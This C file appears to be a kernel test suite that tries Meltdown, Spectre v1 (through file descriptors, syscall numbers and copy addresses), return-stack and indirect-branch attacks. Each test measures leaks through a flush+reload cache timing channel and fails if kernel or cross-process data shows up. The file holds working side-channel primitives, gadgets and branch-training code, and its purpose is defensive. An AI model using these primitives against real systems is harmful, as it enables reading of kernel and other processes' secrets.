/*
 * Transient execution against the kernel: what a CPU does for a moment and takes back, seen through its cache.
 * Each claim plants what only the kernel may reach by the addresses that are tried, tries, and counts cache lines
 * that nothing else can have brought in.
 *
 * Where the program cannot even read its own memory in this way (an emulated CPU, or one that does not
 * speculate), the attempts are made all the same, but prove nothing: the claim ends as skipped, and
 * tools/check-speculation is what there is.
 */
#include "attack.h"

#include <sched.h>
#include <sys/prctl.h>
#include <sys/sysinfo.h>
#include <sys/wait.h>

#define PAGE   4096
#define SECRET 0xa7 /* a line of the probe that no training touches */
#define OTHER  0x4c /* for comparison: as far from everything as SECRET's */
#define GIB    (1ull << 30)
#define DIRECT 0xffff888000000000ull /* where the kernel's map of all memory may begin, and from there on */

static u8 *probe; /* a page for each value of a byte */
static u8 *line;  /* SECRET's */
static u64 slowest_hit;

static inline void flush(const void *p)
{
	__asm__ volatile("clflush (%0)" : : "r"(p) : "memory");
}

static inline void fence(void)
{
	__asm__ volatile("mfence; lfence" : : : "memory");
}

static inline u64 reload(const void *p)
{
	u32 lo, hi, lo2, hi2;

	__asm__ volatile("mfence; lfence; rdtsc; lfence; mov %%eax, %0; mov %%edx, %1; movb (%4), %%al; lfence; rdtsc"
			 : "=&r"(lo), "=&r"(hi), "=&a"(lo2), "=&d"(hi2) : "r"(p) : "memory");
	return ((u64)hi2 << 32 | lo2) - ((u64)hi << 32 | lo);
}

static inline bool cached(const void *p)
{
	return reload(p) <= slowest_hit;
}

static int compare(const void *a, const void *b)
{
	return *(const u64 *)a < *(const u64 *)b ? -1 : *(const u64 *)a > *(const u64 *)b;
}

/* Finds what tells cached lines from others; false: nothing does. */
static bool channel_find(void)
{
	enum { N = 400 };
	static u64 hit[N], miss[N];

	for (int i = 0; i < N; i++) {
		reload(line);
		hit[i] = reload(line);
		flush(line);
		miss[i] = reload(line);
	}
	qsort(hit, N, sizeof(*hit), compare);
	qsort(miss, N, sizeof(*miss), compare);
	slowest_hit = (hit[N * 9 / 10] + miss[N / 10]) / 2;
	return hit[N * 9 / 10] < miss[N / 10];
}

/* ---- a bounds check that is run past ---- */

static struct {
	u64 size;
	u8 pad[4096 - 8];
	u8 data[16];
} array __attribute__((aligned(4096))) = { .size = 16, .data = { 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1 } };
static volatile u8 sink;

static __attribute__((noinline)) void victim(u64 x)
{
	if (x < array.size)
		sink &= probe[array.data[x] * PAGE];
}

/* Turns that make the history of branches, by which a later one is predicted, always the same. */
static inline void same_history(u32 n)
{
	__asm__ volatile("1: decl %0\n\tjnz 1b" : "+r"(n) : : "memory", "cc");
}

/* The byte at addr decides about a line of the probe, though its index is out of bounds: never on record. */
static void transient_read(const void *addr)
{
	u64 wild = (u64)addr - (u64)array.data;

	for (int i = 5; i >= 0; i--) {
		/* The last time the wild one, without a branch that would tell it apart. */
		u64 mask = (u64)((int64_t)(i - 1) >> 63);

		flush(&array.size);
		same_history(100);
		victim((mask & wild) | (~mask & (u64)i));
	}
}

/* How often, of n times, the line of SECRET comes in and that of OTHER does not. */
static int secret_seen(const void *addr, int n)
{
	int seen = 0;

	for (int i = 0; i < n; i++) {
		flush(line);
		flush(probe + OTHER * PAGE);
		fence();
		transient_read(addr);
		seen += cached(line) && !cached(probe + OTHER * PAGE);
	}
	return seen;
}

/* The proof of the tools: whether they read a byte of this program's own. */
static bool tools_work(void)
{
	static u8 own[2 * PAGE];

	memset(own, SECRET, sizeof(own));
	return channel_find() && secret_seen(own + PAGE, 50) >= 10;
}

static bool set_up(void)
{
	probe = mmap(NULL, 256 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	CHECK(probe != MAP_FAILED);
	memset(probe, 1, 256 * PAGE);
	line = probe + SECRET * PAGE;
	return tools_work();
}

static void only_if(bool proved)
{
	if (!proved)
		SKIP("attempted, but this CPU shows no speculation: nothing is proved");
}

/* ---- Meltdown ---- */

/* A part of all memory, so that the kernel's own map of it has SECRET at many places. */
static void plant(u64 bytes)
{
	u8 *p = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	CHECK(p != MAP_FAILED);
	memset(p, SECRET, bytes);
}

TEST_LIMIT(kernel_memory_is_not_read_past_its_protection, 60)
{
	bool proved = set_up();
	struct sysinfo info;
	u64 step, memory;

	CHECK_OK(sysinfo(&info));
	memory = info.totalram * info.mem_unit;
	plant(info.freeram * info.mem_unit / 8 < 32 << 20 ? info.freeram * info.mem_unit / 8 : 32 << 20);
	step = memory < GIB ? memory / 8 : GIB / 8;
	for (u64 gib = 0; gib < SCALE(4096, 65536); gib++)
		for (u64 at = step / 2; at < step * 8; at += step) {
			const void *addr = (void *)(DIRECT + gib * GIB + at);

			if (secret_seen(addr, 1) && proved && secret_seen(addr, 20) >= 10)
				FAIL("the kernel's memory is read in GiB %#lx of its half", gib);
		}
	only_if(proved);
}

/* The same with loads that fault on record, each followed by what depends on it. */
TEST(kernel_memory_is_not_read_on_the_way_to_a_fault)
{
	bool proved = set_up();
	volatile int seen = 0;

	plant(8 << 20);
	attack_init();
	for (volatile u64 i = 0; i < SCALE(1000, 20000); i++) {
		const volatile u8 *addr = (void *)(DIRECT + i * 16384 / SCALE(1000, 20000) * GIB + (96 << 20));

		flush(line);
		flush(probe + OTHER * PAGE);
		fence();
		CHECK(FAULTED(sink &= probe[*addr * PAGE]));
		seen += cached(line) && !cached(probe + OTHER * PAGE);
	}
	CHECK(!proved || seen < SCALE(1000, 20000) / 50);
	only_if(proved);
}

/* ---- Spectre v1: indices and addresses that the kernel is given ---- */

#define FIELD_PAGES 1024
#define FIELD_LINE  0x340 /* not the first of its page, which is touched more often */

static u8 *field_make(void)
{
	u8 *field = mmap(NULL, FIELD_PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	CHECK(field != MAP_FAILED);
	memset(field, 1, FIELD_PAGES * PAGE);
	return field;
}

/* Lines of the field that came into the cache while attempt ran. */
static int field_hits(u8 *field, void (*attempt)(void))
{
	int hits = 0;

	for (int i = 0; i < FIELD_PAGES; i++)
		flush(field + i * PAGE + FIELD_LINE);
	fence();
	attempt();
	for (int i = 0; i < FIELD_PAGES; i++)
		hits += cached(field + i * PAGE + FIELD_LINE);
	return hits;
}

/* As often as the attempt, and as long, without what is wild in it. */
static bool wild;
static int zero_fd;

/*
 * A descriptor far beyond the table would have its slot in somebody's page, perhaps in the field's: they are tried
 * page by page, each after some that are right.
 */
static void use_descriptors(void)
{
	for (u64 page = 1; page < SCALE(8192, 65536); page++) {
		for (int i = 0; i < 3; i++)
			syscall(SYS_lseek, zero_fd, 0, SEEK_CUR);
		syscall(SYS_lseek, wild ? page * (PAGE / 8) + FIELD_LINE / 8 : 1000, 0, SEEK_CUR);
	}
}

static u64 frames[FIELD_PAGES];

static void frames_read(const u8 *field)
{
	int fd = CHECK_OK(open("/proc/self/pagemap", O_RDONLY));

	for (int i = 0; i < FIELD_PAGES; i++) {
		u64 word;

		CHECK_EQ(pread(fd, &word, 8, (off_t)((u64)(field + i * PAGE) / PAGE * 8)), 8);
		frames[i] = word & ((1ull << 55) - 1);
	}
	close(fd);
}

/* Noise is what the tame attempt shows as well, and what does not come again. */
static void compare_attempts(const char *what, u8 *field, void (*attempt)(void), bool proved)
{
	int tame = 0, hits = 0, worse = 0;

	for (int round = 0; round < (proved ? 5 : 1); round++) {
		wild = false;
		tame = field_hits(field, attempt);
		wild = true;
		hits = field_hits(field, attempt);
		worse += hits > tame * 2 + FIELD_PAGES / 64;
	}
	if (proved && worse >= 4)
		FAIL("%s: %d lines came into the cache, %d without", what, hits, tame);
	only_if(proved);
}

TEST_LIMIT(wild_descriptors_load_nothing, 60)
{
	bool proved = set_up();

	zero_fd = (int)CHECK_OK(open("/dev/zero", O_RDONLY));
	compare_attempts("descriptors", field_make(), use_descriptors, proved);
}

/* How often, of n times, a copy that must refuse addr has brought our own line in all the same. */
static int line_loaded(const u8 *own, u64 addr, int n)
{
	struct timespec t = { 0, 0 };
	int seen = 0;

	for (int i = 0; i < n; i++) {
		for (int j = 0; j < 3; j++)
			syscall(SYS_clock_settime, 77, &t);
		flush(own);
		fence();
		syscall(SYS_clock_nanosleep, CLOCK_MONOTONIC, 0, addr, NULL);
		seen += cached(own);
	}
	return seen;
}

/* The kernel's address of a page of ours, given to a copy: which must not even load for a moment what it refuses. */
TEST_LIMIT(wild_addresses_load_nothing, 60)
{
	bool proved = set_up();
	u8 *field = field_make();

	frames_read(field);
	for (u64 gib = 0; gib < SCALE(4096, 65536); gib++) {
		const u8 *own = field + gib % FIELD_PAGES * PAGE + FIELD_LINE;
		u64 addr = DIRECT + gib * GIB + frames[gib % FIELD_PAGES] * PAGE + FIELD_LINE;

		if (line_loaded(own, addr, 1) && proved && line_loaded(own, addr, 20) >= 10 && line_loaded(own, 8, 20) < 5)
			FAIL("a copy that is refused has loaded from GiB %#lx of the kernel's half", gib);
	}
	only_if(proved);
}

/*
 * The table of calls lies near the top: numbers that are too large reach, past the end of the address space, into
 * ours. There are windows there, all of the same pages, where the slot would be for some places of the image.
 */
#define TABLE_AREA 0xffffffff80000000ull
#define WINDOW     (FIELD_PAGES * PAGE)
#define OUR_LOW    0x40000000ull

static void use_numbers(void)
{
	for (u64 i = 0; i < SCALE(4096, 16384); i++) {
		/* The place of the table within a page is not known: every line of each page. */
		u64 nr = (OUR_LOW - TABLE_AREA + i / 64 * PAGE + i % 64 * 64) / 8;

		for (int j = 0; j < 3; j++)
			syscall(SYS_getppid);
		syscall(wild ? (long)(u32)nr : 511);
	}
}

TEST_LIMIT(wild_call_numbers_load_nothing, 60)
{
	bool proved = set_up();
	int fd = (int)CHECK_OK(memfd_create("field", 0)), windows = SCALE(8, 256);
	u8 *field = NULL;

	CHECK_OK(ftruncate(fd, WINDOW));
	for (int i = 0; i < windows; i++) {
		u8 *p = mmap((void *)(OUR_LOW + (u64)i * WINDOW), WINDOW, PROT_READ | PROT_WRITE,
			     MAP_SHARED | MAP_FIXED_NOREPLACE, fd, 0);

		if (p == MAP_FAILED)
			continue;
		for (u64 at = 0; at < WINDOW; at += PAGE)
			p[at] = 1;
		field = p;
	}
	CHECK(field);
	compare_attempts("numbers", field, use_numbers, proved);
}

/* ---- the return stack ---- */

/*
 * Calls that are never returned from leave, in the return stack, the address of code that loads the line of SECRET:
 * by an address of its own, so that it works with anybody's registers.
 */
#define LEAVE_RETURNS                                                                              \
	".rept 32\n\tcall 1f\n\tmovq %[line], %%rax\n\tmovb (%%rax), %%al\n\tlfence\n1:\n\t.endr\n\t" \
	"addq $32 * 8, %%rsp\n\t"

/* Leaves returns behind, makes a call, and looks before it returns anywhere itself. */
static inline __attribute__((always_inline)) long call_with_returns(long nr)
{
	long ret;

	__asm__ volatile("subq $128, %%rsp\n\tmovq %1, %%rdx\n\t" LEAVE_RETURNS
			 "addq $128, %%rsp\n\tmovq %%rdx, %%rax\n\tsyscall"
			 : "=&a"(ret) : "r"(nr), [line] "m"(line) : "rcx", "rdx", "r11", "memory", "cc");
	return ret;
}

/* The proof of the tool: a return of our own, whose address is slow to come, goes to what was left first. */
static bool returns_work(void)
{
	int seen = 0;

	for (int i = 0; i < 50; i++) {
		flush(line);
		fence();
		__asm__ volatile("subq $128, %%rsp\n\t" LEAVE_RETURNS
				 "leaq 1f(%%rip), %%rcx\n\tpushq %%rcx\n\tclflush (%%rsp)\n\tmfence\n\tret\n\tint3\n1:\n\t"
				 "addq $128, %%rsp"
				 : : [line] "m"(line) : "rax", "rcx", "memory", "cc");
		seen += cached(line);
	}
	return seen >= 10;
}

TEST(the_kernel_does_not_return_to_what_we_left)
{
	bool proved = set_up() && returns_work();
	int seen = 0, rounds = SCALE(2000, 100000);

	for (int i = 0; i < rounds; i++) {
		flush(line);
		fence();
		call_with_returns(i % 2 ? SYS_sched_yield : SYS_getppid);
		seen += cached(line);
	}
	if (proved && seen > rounds / 50)
		FAIL("the gadget ran in %d of %d calls", seen, rounds);
	only_if(proved);
}

/* Another process of ours on the same CPU, the same program at the same addresses, leaves the returns. */
TEST(another_process_does_not_return_to_what_we_left)
{
	bool proved = set_up() && returns_work();
	int seen = 0, rounds = SCALE(1000, 50000);
	cpu_set_t one;
	pid_t pid;
	long ret;

	CPU_ZERO(&one);
	CPU_SET(sched_getcpu(), &one);
	CHECK_OK(sched_setaffinity(0, sizeof(one), &one));
	pid = test_fork();
	if (!pid)
		for (;;)
			call_with_returns(SYS_sched_yield);
	for (int i = 0; i < rounds; i++) {
		flush(line);
		fence();
		/* After the switch, returns without calls: they take what is in the return stack. */
		__asm__ volatile("subq $128, %%rsp\n\tsyscall\n\t"
				 ".rept 8\n\t"
				 "leaq 1f(%%rip), %%rcx\n\tpushq %%rcx\n\tret\n\tint3\n1:\n\t"
				 ".endr\n\t"
				 "addq $128, %%rsp"
				 : "=a"(ret) : "a"(SYS_sched_yield) : "rcx", "r11", "memory", "cc");
		seen += cached(line);
	}
	kill(pid, SIGKILL);
	test_reap(pid);
	if (proved && seen > rounds / 50)
		FAIL("the gadget ran in %d of %d rounds", seen, rounds);
	only_if(proved);
}

/* ---- indirect branches ---- */

static struct {
	u8 pad[PAGE];
	void (*volatile to)(void);
	u8 pad2[PAGE];
} target;

static void gadget(void)
{
	sink = *(volatile u8 *)line;
}

static void harmless(void)
{
	sink = 0;
}

/* One branch for all, predicted by what came before it. */
static __attribute__((noinline)) void branch(void)
{
	same_history(250); /* more than any CPU remembers */
	target.to();
	__asm__ volatile("" : : : "memory");
}

static void train(void)
{
	target.to = gadget;
	for (int i = 0; i < 10; i++)
		branch();
}

/* Goes where it is told, slowly; whether it has been to the gadget on the way. */
static bool goes_astray(void)
{
	target.to = harmless;
	flush(line);
	flush((void *)&target.to);
	fence();
	branch();
	return cached(line);
}

static bool branches_work(void)
{
	int seen = 0;

	for (int i = 0; i < 50; i++) {
		train();
		seen += goes_astray();
	}
	return seen >= 10;
}

/* Another process on the same CPU trains our branch. Who has asked for it is kept apart from that. */
TEST(branches_trained_by_another_process_are_not_predicted)
{
	bool proved = set_up() && branches_work();
	int seen = 0, rounds = SCALE(1000, 50000);
	bool apart = !prctl(PR_SET_SPECULATION_CTRL, PR_SPEC_INDIRECT_BRANCH, PR_SPEC_DISABLE, 0, 0);
	cpu_set_t one;
	pid_t pid;

	CPU_ZERO(&one);
	CPU_SET(sched_getcpu(), &one);
	CHECK_OK(sched_setaffinity(0, sizeof(one), &one));
	pid = test_fork();
	if (!pid)
		for (;;) {
			train();
			sched_yield();
		}
	for (int i = 0; i < rounds; i++) {
		sched_yield();
		seen += goes_astray();
	}
	kill(pid, SIGKILL);
	test_reap(pid);
	if (!apart)
		SKIP("attempted, but this machine has no control over the prediction of indirect branches");
	if (proved && seen > rounds / 50)
		FAIL("the gadget ran in %d of %d rounds", seen, rounds);
	only_if(proved);
}
